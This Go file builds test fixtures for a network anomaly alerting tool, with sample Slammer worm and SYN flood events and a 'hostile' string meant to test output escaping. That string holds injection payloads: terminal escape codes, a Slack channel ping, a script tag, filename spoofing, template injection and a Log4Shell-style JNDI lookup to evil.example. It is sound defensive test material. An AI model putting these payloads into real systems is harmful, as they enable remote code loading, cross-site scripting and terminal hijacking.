package alerttest

import (
	"net/netip"
	"time"

	"eagre/anomaly"
)

// Slammer is a worm inside the network, its numbers those of the founding slides.
func Slammer() anomaly.Event {
	source := netip.MustParsePrefix("192.168.20.217/32")
	start := time.Date(2003, 1, 27, 16, 51, 0, 0, time.UTC)
	return anomaly.Event{
		Event: anomaly.Opened, ID: "a-5k2qslammer", Revision: 1, At: start.Add(7 * time.Second),
		Anomaly: anomaly.Anomaly{
			Class: anomaly.Signature, Subclass: "slammer", Title: "SQL Slammer worm", Importance: anomaly.High,
			SeverityPercent: 958.2, Threshold: anomaly.Threshold{Value: 3400, Unit: anomaly.PPS, Source: "signature slammer rev 3"},
			Direction: "outgoing", Start: start, Ongoing: true,
			Resource: anomaly.Resource{Kind: "prefix", Name: "campus", Prefix: "192.168.16.0/20"},
			Source:   &source, Stage: anomaly.Stable, Vectors: []anomaly.Vector{},
			Triggering: anomaly.Rates{BPS: 71_690_000, PPS: 22_200}, Expected: anomaly.Rates{BPS: 2_340_000, PPS: 712},
			Difference: anomaly.Rates{BPS: 69_350_000, PPS: 21_488},
			Maximum:    anomaly.Peak{Rates: anomaly.Rates{BPS: 105_260_000, PPS: 32_580}, At: start.Add(5 * time.Second)},
			Mean:       anomaly.Rates{BPS: 76_050_000, PPS: 23_540}, SamplingErrorPercent: 1.9,
			Fingerprint: anomaly.Fingerprint{Protocol: of[uint8](17), DstPort: of[uint16](1434), PacketSize: of[uint32](404), Share: 0.999},
			NetworkElements: []anomaly.NetworkElement{
				element("net8", "192.0.2.8", 67, "at-1/1/0.14", 0.71, true),
				element("net9", "192.0.2.9", 3, "ge-0/0/3", 0.29, true),
				element("core1", "192.0.2.1", 12, "xe-1/0/0", 1, false),
			},
			Evidence: anomaly.Evidence{
				Detector: "signature/slammer", RuleRevision: "3", Window: "2s", Value: 22_200, Limit: 3400,
				Unit: anomaly.PPS, Samples: 11_100,
				Sentence:  "udp to port 1434 with 404-byte packets: 22.20 Kpps from 192.168.20.217, limit 3.40 Kpps",
				Reproduce: "eagre signature backtest rules/slammer.yaml",
			},
		},
	}
}

// SYNFlood is a spoofed flood against an IPv6 host, of two vectors.
func SYNFlood() anomaly.Event {
	e := Slammer()
	victim := netip.MustParsePrefix("2001:db8:1::7/128")
	e.ID, e.Class, e.Subclass, e.Title = "a-7synflood", anomaly.Misuse, anomaly.SYNFlood, "SYN flood"
	e.Source, e.Victim, e.Direction = nil, &victim, "incoming"
	e.Resource = anomaly.Resource{Kind: "managed-object", Name: "acme", Prefix: "2001:db8:1::/48"}
	e.Threshold = anomaly.Threshold{Value: 5000, Unit: anomaly.PPS, Source: "thresholds.syn-flood"}
	e.SeverityPercent = 651.6
	e.Fingerprint = anomaly.Fingerprint{Protocol: of[uint8](6), DstPort: of[uint16](443), TCPFlags: of[uint8](2), Share: 0.97}
	e.Vectors = []anomaly.Vector{{Class: anomaly.Misuse, Subclass: anomaly.UDPFlood, Maximum: anomaly.Rates{BPS: 12_000_000, PPS: 1500}}}
	e.Evidence.Sentence = "tcp SYN alone to 2001:db8:1::7: 22.20 Kpps from spread sources, limit 5.00 Kpps"
	return e
}

// Hostile is an event whose every free string was written by an attacker.
func Hostile() anomaly.Event {
	e := Slammer()
	e.ID = "a-0hostile"
	for _, s := range []*string{
		&e.Title, &e.Subclass, &e.Direction, &e.Resource.Name, &e.Threshold.Source, &e.Evidence.Sentence,
		&e.Evidence.Detector, &e.Evidence.Reproduce,
	} {
		*s = hostile
	}
	e.Breadth = of(hostile)
	e.Vectors = []anomaly.Vector{{Class: anomaly.Misuse, Subclass: hostile}}
	for i := range e.NetworkElements {
		e.NetworkElements[i].Exporter, e.NetworkElements[i].Name = hostile, hostile
	}
	return e
}

// hostile turns text around, hides it, moves the cursor, retitles the window, calls a
// channel, links, ends a line, ends a document, and is not even UTF-8.
const hostile = "\x1b]0;owned\a\x1b[2J<!channel> <https://evil.example|click> <script>alert(1)</script>\r\n" +
	"\u202egnp.exe\u200b\ufeff\u2028{{7*7}}${jndi:ldap://evil.example}\x00\x9b31m\xff\xfe& *bold* @here"

// As is the event at another moment of its life.
func As(e anomaly.Event, kind anomaly.Kind, revision int) anomaly.Event {
	e.Event, e.Revision = kind, revision
	e.At = e.Start.Add(time.Duration(revision) * time.Minute)
	e.Ongoing, e.End = kind != anomaly.Ended, nil
	if kind == anomaly.Ended {
		end := e.At
		e.End = &end
	}
	return e
}

func of[T any](v T) *T { return &v }

func element(exporter, address string, index uint32, name string, share float64, entry bool) anomaly.NetworkElement {
	return anomaly.NetworkElement{
		Exporter: exporter, Address: netip.MustParseAddr(address), Interface: index, Name: name,
		Direction: "in", Role: "customer", Importance: anomaly.High, Share: share, MaxPPS: 32_580 * share, Entry: entry,
	}
}
